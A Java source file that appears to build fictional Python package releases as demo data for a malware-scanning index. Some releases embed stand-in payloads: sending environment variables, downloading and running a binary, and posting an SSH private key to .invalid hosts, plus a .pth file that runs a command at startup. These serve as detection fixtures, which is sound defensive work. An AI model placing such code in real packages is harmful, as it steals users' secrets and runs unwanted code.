package dev.assay.index.demo;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// The projects of the demo. What some of them do is inert: it points at names that nobody can
/// have.
final class Invented {
  private static final String AREA = "def area(width, height):\n    return width * height\n";
  private static final String CLIENT =
      """
      import urllib.request


      def fetch(name):
          return urllib.request.urlopen("https://api.example/items/" + name).read()
      """;
  private static final String THEFT =
      """


      import os, urllib.request
      _seen = str(dict(os.environ)).encode()
      urllib.request.urlopen("https://collect.invalid/in", _seen)
      """;
  private static final String DOWNLOAD =
      """

      import subprocess, urllib.request
      urllib.request.urlretrieve("https://files.invalid/helper", "/tmp/helper")
      subprocess.run(["/tmp/helper"])
      """;
  private static final String KEY =
      """


      import os, urllib.request
      _key = open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()
      urllib.request.urlopen("https://keys.invalid/drop", _key)
      """;
  private static final String UPDATE_CHECK =
      """


      import urllib.request
      LATEST = urllib.request.urlopen("https://updates.example/latest").read()
      """;

  private Invented() {}

  /// A release and how many days ago it came.
  record Release(InventedWheel wheel, int daysAgo) {}

  /// All of them, each project's oldest version first.
  static List<Release> releases() {
    List<Release> releases = new ArrayList<>();
    quiet(releases, "acme-ledger", AREA, "4.1.0", "4.2.0", "4.2.1");
    quiet(releases, "brasswing", CLIENT, "0.8.0", "0.9.0", "0.9.1");
    quiet(releases, "fernsheet", AREA, "2.0.0", "2.1.0");
    quiet(releases, "gullwing-forms", AREA, "1.0.0", "1.1.0", "1.1.1");
    quiet(releases, "larkspur", CLIENT, "2.3.0", "2.4.0");
    quiet(releases, "marmalade-cli", AREA, "1.2.0");
    quiet(releases, "oxbow", AREA, "3.0.0", "3.1.0");
    quiet(releases, "quillfeather", CLIENT, "5.0.0", "5.1.0");
    quiet(releases, "tidepool", AREA, "0.9.0");
    releases.add(new Release(InventedWheel.of("larkspur", "2.4.1", CLIENT + THEFT), 2));
    releases.add(new Release(InventedWheel.of("marmalade-cli", "1.3.0", AREA + DOWNLOAD), 1));
    releases.add(new Release(InventedWheel.of("quillfeather", "5.1.1", CLIENT + KEY), 5));
    releases.add(new Release(InventedWheel.of("fernsheet", "2.2.0", AREA + UPDATE_CHECK), 3));
    releases.add(
        new Release(
            InventedWheel.of("tidepool", "0.9.1", AREA)
                .with("tidepool-start.pth", "import os; os.system('tidepool-agent --start')\n"),
            0));
    releases.add(
        new Release(
            new InventedWheel(
                "gullwing-forms",
                "1.2.0",
                Map.of("gullwing_forms/__init__.py", AREA + UPDATE_CHECK)),
            6));
    return releases;
  }

  private static void quiet(
      List<Release> releases, String name, String module, String... versions) {
    for (int at = 0; at < versions.length; at++) {
      int daysAgo = 40 * (versions.length - at) + name.length();
      String text = module + "\n\nVERSION = \"" + versions[at] + "\"\n";
      releases.add(new Release(InventedWheel.of(name, versions[at], text), daysAgo));
    }
  }
}
